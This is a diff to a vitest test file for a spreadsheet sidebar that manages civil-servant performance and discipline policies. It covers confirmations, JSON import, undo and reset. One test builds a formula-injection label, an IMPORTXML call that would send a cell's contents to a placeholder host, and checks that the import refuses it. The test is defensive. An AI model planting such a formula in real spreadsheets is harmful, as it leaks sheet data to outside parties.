@@ -3,6 +3,7 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { readStoredPolicy } from '../../apps-script/src/settings/policy-store';
 import { workbookGrids } from '../../scripts/sample-sheets';
 import { ResultsPackageSchema } from '../../shared/pipeline/schema';
+import { defaultPolicy } from '../../shared/policy/schema';
 import { sampleWorkbook } from '../../shared/sample';
 import { ensureBuilt, loadSandbox } from '../../tools/apps-script-sandbox/sandbox';
 import { openPage } from './sidebar-page';
@@ -19,6 +20,26 @@ function inputAfter(doc: ReturnType<typeof openPage>, label: string): HTMLInputE
   const found = [...doc.querySelectorAll('label')].find((l) => l.textContent === label);
   if (!found) throw new Error(`no label ${label}`);
   return found.nextElementSibling as unknown as HTMLInputElement;
+}
+
+const button = (doc: ReturnType<typeof openPage>, text: string): HTMLButtonElement => {
+  const found = [...doc.querySelectorAll('button')].find((b) => b.textContent === text);
+  if (!found) throw new Error(`no button ${text}`);
+  return found as unknown as HTMLButtonElement;
+};
+const confirmation = (doc: ReturnType<typeof openPage>): string => {
+  const box = doc.getElementById('confirm') as unknown as HTMLElement;
+  return box.hidden ? '' : (box.textContent ?? '');
+};
+/** The rows of the confirmation's table: field, now, after. */
+const changeRows = (doc: ReturnType<typeof openPage>): string[][] =>
+  [...doc.querySelectorAll('#confirm tr')]
+    .slice(1)
+    .map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? ''));
+function importJson(doc: ReturnType<typeof openPage>, json: string): void {
+  const area = [...doc.querySelectorAll('textarea')].at(-1) as unknown as HTMLTextAreaElement;
+  area.value = json;
+  button(doc, 'Impor JSON').click();
 }
 
 describe('policy sidebar', () => {
@@ -54,16 +75,30 @@ describe('policy sidebar', () => {
     expect(stored.policy.rating.hasilBands.diAtasMin).toBeCloseTo(1.1, 10);
   });
 
-  it('applies a preset and exports the policy as a download link', async () => {
+  it('applies a preset after showing what changes, and exports the policy as a download link', async () => {
     const box = sampleBox();
     const doc = openPage(box, 'Policy');
     await settle();
     const preset = doc.querySelector('select') as unknown as HTMLSelectElement;
     preset.value = 'tulang_bawang';
-    const apply = [...doc.querySelectorAll('button')].find((b) => b.textContent === 'Pakai preset');
-    (apply as unknown as HTMLButtonElement).click();
+    button(doc, 'Pakai preset').click();
+    await settle();
+    // Nothing is replaced yet: the sidebar shows the main numbers that change and asks first.
+    expect(readStoredPolicy(box.documentProperties).status).toBe('default');
+    expect(confirmation(doc)).toContain('Ganti kebijakan?');
+    expect(confirmation(doc)).toContain(
+      'Kebijakan yang berlaku "Bawaan nasional (PermenPANRB 6/2022, SE MenPANRB 3/2023)" akan diganti dengan "Kabupaten Tulang Bawang (potongan apel Senin)".',
+    );
+    expect(changeRows(doc)).toContainEqual([
+      'Tabel potongan disiplin',
+      'Permentan 68/2012',
+      'Kabupaten Tulang Bawang',
+    ]);
+    expect(confirmation(doc)).toContain('disimpan sebagai kebijakan sebelumnya dan dapat dipulihkan');
+    button(doc, 'Ya, ganti kebijakan').click();
     await settle();
     expect(readStoredPolicy(box.documentProperties).policy.discipline.table.id).toBe('tulang_bawang');
+    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);
     const exportButton = [...doc.querySelectorAll('button')].find((b) => b.textContent === 'Ekspor JSON');
     (exportButton as unknown as HTMLButtonElement).click();
     await settle();
@@ -71,6 +106,127 @@ describe('policy sidebar', () => {
     expect(link.getAttribute('href')).toMatch(/^data:application\/json;charset=utf-8,/);
     const json = decodeURIComponent((link.getAttribute('href') ?? '').split(',').slice(1).join(','));
     expect(JSON.parse(json).preset).toBe('tulang_bawang');
+  });
+
+  it('changes nothing when the confirmation is cancelled', async () => {
+    const box = sampleBox();
+    const doc = openPage(box, 'Policy');
+    await settle();
+    (doc.querySelector('select') as unknown as HTMLSelectElement).value = 'legacy_numeric';
+    button(doc, 'Pakai preset').click();
+    await settle();
+    // The legacy preset changes no number of the sidebar: the confirmation says what else changes.
+    expect(confirmation(doc)).toContain('1 isian lain juga berubah: legacy.enabled.');
+    button(doc, 'Batal').click();
+    await settle();
+    expect(doc.getElementById('status')?.textContent).toBe('Dibatalkan; kebijakan tidak berubah.');
+    expect(box.documentProperties.store.size).toBe(0);
+  });
+
+  it('imports JSON only after a confirmation listing the main numbers, and restores the previous policy', async () => {
+    const box = sampleBox();
+    const doc = openPage(box, 'Policy');
+    await settle();
+    inputAfter(doc, 'Nama kebijakan').value = 'Perbup Kabupaten Contoh 2025';
+    (doc.getElementById('save') as unknown as HTMLButtonElement).click();
+    await settle();
+
+    const imported = {
+      version: 1,
+      name: 'Perbup Tulang Bawang 2024',
+      rating: { hasilBands: { diAtasMin: 1.2, sesuaiMin: 0.95 } },
+      capaian: { aggregationCap: null },
+    };
+    importJson(doc, JSON.stringify(imported));
+    await settle();
+    expect(readStoredPolicy(box.documentProperties).policy.name).toBe('Perbup Kabupaten Contoh 2025');
+    const rows = changeRows(doc);
+    expect(rows).toContainEqual([
+      'Nama kebijakan',
+      'Perbup Kabupaten Contoh 2025',
+      'Perbup Tulang Bawang 2024',
+    ]);
+    expect(rows).toContainEqual(['Di Atas Ekspektasi bila capaian paling sedikit (%)', '110 %', '120 %']);
+    expect(rows).toContainEqual(['Sesuai Ekspektasi bila capaian paling sedikit (%)', '90 %', '95 %']);
+    expect(rows).toContainEqual([
+      'Batas atas capaian per indikator (%; kosong = tanpa batas)',
+      '120 %',
+      'tanpa batas',
+    ]);
+    expect(rows).toHaveLength(4);
+    button(doc, 'Ya, ganti kebijakan').click();
+    await settle();
+    expect(doc.getElementById('status')?.textContent).toContain(
+      'Kebijakan "Perbup Tulang Bawang 2024" disimpan',
+    );
+    expect(readStoredPolicy(box.documentProperties).policy.rating.hasilBands.diAtasMin).toBe(1.2);
+
+    // One level of undo: the policy the import replaced.
+    expect(doc.body.textContent).toContain('Kebijakan sebelumnya: "Perbup Kabupaten Contoh 2025"');
+    button(doc, 'Pulihkan kebijakan sebelumnya').click();
+    await settle();
+    expect(confirmation(doc)).toContain('Pulihkan kebijakan sebelumnya?');
+    expect(changeRows(doc)).toContainEqual([
+      'Di Atas Ekspektasi bila capaian paling sedikit (%)',
+      '120 %',
+      '110 %',
+    ]);
+    button(doc, 'Ya, pulihkan').click();
+    await settle();
+    expect(doc.getElementById('status')?.textContent).toContain(
+      'Kebijakan sebelumnya "Perbup Kabupaten Contoh 2025" dipulihkan',
+    );
+    expect(readStoredPolicy(box.documentProperties).policy.name).toBe('Perbup Kabupaten Contoh 2025');
+    expect(inputAfter(doc, 'Di Atas Ekspektasi bila capaian paling sedikit (%)').value).toBe('110');
+    // ...and the restore can itself be undone.
+    expect(doc.body.textContent).toContain('Kebijakan sebelumnya: "Perbup Tulang Bawang 2024"');
+  });
+
+  it('refuses an import with a misspelt key or a formula-like label before asking anything', async () => {
+    const box = sampleBox();
+    const doc = openPage(box, 'Policy');
+    await settle();
+    importJson(
+      doc,
+      JSON.stringify({ version: 1, rating: { hasilBands: { diAtasMin: 1.2, sesuaiMn: 0.95 } } }),
+    );
+    await settle();
+    expect(doc.getElementById('status')?.className).toContain('error');
+    expect(doc.getElementById('status')?.textContent).toContain(
+      'kunci "rating.hasilBands.sesuaiMn" tidak dikenal, jadi nilainya tidak akan dipakai. Mungkin maksudnya "rating.hasilBands.sesuaiMin"?',
+    );
+    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);
+
+    const hostile = defaultPolicy();
+    hostile.sakip.grades[0]!.label = '=IMPORTXML("http://example.test/?"&A2, "//a")';
+    importJson(doc, JSON.stringify(hostile));
+    await settle();
+    expect(doc.getElementById('status')?.textContent).toContain(
+      'isian "sakip.grades.0.label": teks "=IMPORTXML("http://example.test/?"&A2, "..." diawali "="',
+    );
+    expect((doc.getElementById('confirm') as unknown as HTMLElement).hidden).toBe(true);
+    expect(box.documentProperties.store.size).toBe(0);
+  });
+
+  it('resets to the national defaults after a confirmation, keeping the replaced policy to restore', async () => {
+    const box = sampleBox();
+    box.call('pilihPresetKebijakan', 'tulang_bawang');
+    const doc = openPage(box, 'Policy');
+    await settle();
+    button(doc, 'Kembalikan ke bawaan nasional').click();
+    await settle();
+    expect(changeRows(doc)).toContainEqual([
+      'Tabel potongan disiplin',
+      'Kabupaten Tulang Bawang',
+      'Permentan 68/2012',
+    ]);
+    expect(readStoredPolicy(box.documentProperties).policy.preset).toBe('tulang_bawang');
+    button(doc, 'Ya, ganti kebijakan').click();
+    await settle();
+    expect(readStoredPolicy(box.documentProperties).policy.discipline.table.id).toBe('permentan_68_2012');
+    expect(doc.body.textContent).toContain(
+      'Kebijakan sebelumnya: "Kabupaten Tulang Bawang (potongan apel Senin)"',
+    );
   });
 });
 
